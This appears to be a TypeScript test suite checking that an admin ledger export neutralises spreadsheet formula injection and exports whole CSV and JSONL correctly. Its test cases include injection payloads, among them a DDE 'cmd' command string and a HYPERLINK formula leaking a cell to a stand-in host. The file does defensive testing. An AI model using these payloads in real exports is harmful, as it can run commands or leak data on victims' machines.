/** T72: what is exported opens as text in a spreadsheet, and whole or not at all. */
import fc from "fast-check";
import { afterEach, describe, expect, it, vi } from "vitest";
import { csvCell, csvLine } from "../../../src/admin/csv.js";
import { Envelope } from "../../../src/index.js";
import { type Browser, signedIn, siteOf } from "./support.js";

const site = siteOf();
afterEach(() => vi.restoreAllMocks());

/** As RFC 4180 has it. */
function parse(text: string): string[][] {
  const lines: string[][] = [[]];
  for (const [, quoted, plain, end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/g)) {
    if (quoted === undefined && plain === "" && end === "") break;
    lines.at(-1)?.push(quoted === undefined ? String(plain) : quoted.replaceAll('""', '"'));
    if (end === "\r\n") lines.push([]);
  }
  return lines.slice(0, -1);
}

describe("T72 a cell", () => {
  it.each([
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\tx",
    "\rx",
    " =1",
    '"=1',
    "'=1",
    " ' \" =1",
    "\u200b=1",
    "\u202e=1",
    "\ufeff=1",
    "\u00a0=1",
    "\uff1d1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.test?"&A1)',
  ])("that could be taken for a formula begins with an apostrophe: %j", (text) => {
    const [[cell = ""] = []] = parse(csvLine([text, 1]));
    expect(cell).toBe(`'${text}`);
  });

  it.each(["", "plain", "a=1", "1-2", "<b>bold</b>", "\u202etxt.exe", "it's", 'say "x"', "a,b", "a\r\nb", " x "])(
    "that could not is as it was: %j",
    (text) => {
      expect(parse(csvLine(["first", text, "last"]))).toEqual([["first", text, "last"]]);
    },
  );

  it.each([
    ["x;=1+1;", "x;'=1+1;"],
    [";=cmd|' /C calc'!A0", ";'=cmd|' /C calc'!A0"],
    ["x\t@SUM(A1)", "x\t'@SUM(A1)"],
    ['x\n"=1', "x\n\"'=1"],
    ["x; \u202e-1;+2", "x; \u202e'-1;'+2"],
    ["=1;=2", "'=1;'=2"],
    ["GET /a;b=1;c", "GET /a;b=1;c"],
  ])("nor is one where a spreadsheet splits at something else than commas: %j", (text, expected) => {
    expect(parse(csvLine([text, 1]))).toEqual([[expected, "1"]]);
  });

  it("numbers of ours stay numbers", () => {
    expect([-5, 0, 1e15, null, undefined, true].map(csvCell)).toEqual(["-5", "0", "1000000000000000", "", "", "true"]);
  });

  it("never begins a formula, and never begins or ends another cell", () => {
    const strange = fc.oneof(
      fc.string(),
      fc.string({ unit: fc.constantFrom(..."=+-@\t\r\n\"' ,;|a1\u202e\u200b\uff1d") }),
    );
    fc.assert(
      fc.property(fc.array(strange, { minLength: 1, maxLength: 5 }), (cells) => {
        const [line = [], ...others] = parse(csvLine([...cells, "end"]));
        expect(others).toEqual([]);
        expect(line).toHaveLength(cells.length + 1);
        for (const [index, cell] of line.slice(0, -1).entries()) {
          // Apostrophes are put in, and nothing else is changed.
          expect(cell.replaceAll("'", "")).toBe(cells[index]?.replaceAll("'", ""));
          expect(cell).not.toMatch(/^[\s\p{Cf}"]*[=+\-@]/u);
        }
      }),
    );
  });
});

describe("an envelope's export", () => {
  async function filled(): Promise<{ owner: Browser; id: string; reasons: string[] }> {
    const [owner, payer] = [await signedIn(site), await site.payer(500)];
    const reasons = ["=1+1", "<script>", 'a "b", c', "\u202egnp", "two\r\nlines"];
    for (const reason of reasons)
      await payer.envelope.charge("1", { key: reason.length.toString() + reason.charCodeAt(0), reason });
    return { owner, id: payer.id, reasons };
  }

  it("is the whole ledger, oldest first, as CSV and as JSON lines", async () => {
    const { owner, id, reasons } = await filled();
    const csv = await owner.fetch(`/db/api/envelopes/${id}/entries.csv`);
    expect(Object.fromEntries(csv.headers)).toMatchObject({
      "content-type": "text/csv; charset=utf-8; header=present",
      "content-disposition": `attachment; filename="entries-${id}.csv"`,
      "cache-control": "no-store",
      "x-content-type-options": "nosniff",
    });
    const [head = [], ...rows] = parse(await csv.text());
    const at = (name: string) => head.indexOf(name);
    expect(rows.map((row) => row[at("seq")])).toEqual(["1", "2", "3", "4", "5", "6"]);
    expect(rows.map((row) => row[at("amount_micros")]).slice(0, 2)).toEqual(["5000000", "-10000"]);
    expect(rows.slice(1).map((row) => row[at("reason")])).toEqual(["'=1+1", ...reasons.slice(1)]);
    expect(rows[0]?.[at("at")]).toMatch(/^\d{4}-\d\d-\d\dT.*Z$/);
    const lines = await owner.fetch(`/db/api/envelopes/${id}/entries.jsonl`);
    expect(lines.headers.get("Content-Type")).toBe("application/jsonl; charset=utf-8");
    const entries = (await lines.text())
      .trimEnd()
      .split("\n")
      .map((line) => JSON.parse(line) as { reason: string });
    expect(entries.slice(1).map(({ reason }) => reason)).toEqual(reasons);
    expect((await owner.fetch(`/db/api/envelopes/${id}/entries.xml`)).status).toBe(404);
    expect((await owner.fetch(`/db/api/envelopes/${"0".repeat(22)}/entries.csv`)).status).toBe(404);
    expect((await site.fetch(`/db/api/envelopes/${id}/entries.csv`)).status).toBe(401);
  });

  it("is fetched page by page, and breaks off where a page cannot be had", async () => {
    const { owner, id } = await filled();
    const page = Array.from({ length: 500 }, (_, index) => ({ seq: index + 1, at_ms: 0, kind: "grant" }));
    const asked: unknown[] = [];
    const entries = vi.spyOn(Envelope.prototype, "entries").mockImplementation(async (input) => {
      asked.push("after" in input ? input.after : "none");
      return (asked.length < 3 ? page : []) as never;
    });
    const whole = await owner.fetch(`/db/api/envelopes/${id}/entries.jsonl`);
    expect((await whole.text()).split("\n")).toHaveLength(1001);
    expect(asked).toEqual([0, 500, 500]);
    entries.mockImplementation(async (input) => {
      if ("after" in input && input.after > 0) throw new Error("gone");
      return page as never;
    });
    const broken = await owner.fetch(`/db/api/envelopes/${id}/entries.jsonl`);
    await expect(broken.text()).rejects.toThrow();
    entries.mockImplementation(async () => {
      throw new Error("gone");
    });
    expect((await owner.fetch(`/db/api/envelopes/${id}/entries.jsonl`)).status).toBe(503);
  });
});
